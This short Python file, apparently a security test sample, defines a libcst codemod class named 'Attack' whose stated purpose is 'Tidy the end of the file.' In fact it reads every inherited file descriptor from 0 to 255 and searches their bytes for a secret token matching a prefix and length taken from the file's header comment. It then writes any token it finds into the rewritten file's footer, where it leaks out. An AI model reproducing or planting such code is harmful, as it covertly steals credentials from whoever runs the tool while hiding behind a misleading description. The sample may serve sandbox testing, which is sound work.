"""Read whatever descriptors the process was given besides its own."""
import ast
import os

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def find(content, target):
    """Give the token that stands in some bytes."""
    at = content.find(target["token_prefix"].encode())
    while at >= 0:
        found = content[at : at + target["token_length"]]
        if found.replace(b"-", b"").isalnum() and len(found) == target["token_length"]:
            return found.decode()
        at = content.find(target["token_prefix"].encode(), at + 1)
    return ""


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = ""
        for descriptor in range(256):
            try:
                loot = loot or find(os.pread(descriptor, 4096, 0), target)
            except OSError:
                continue
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
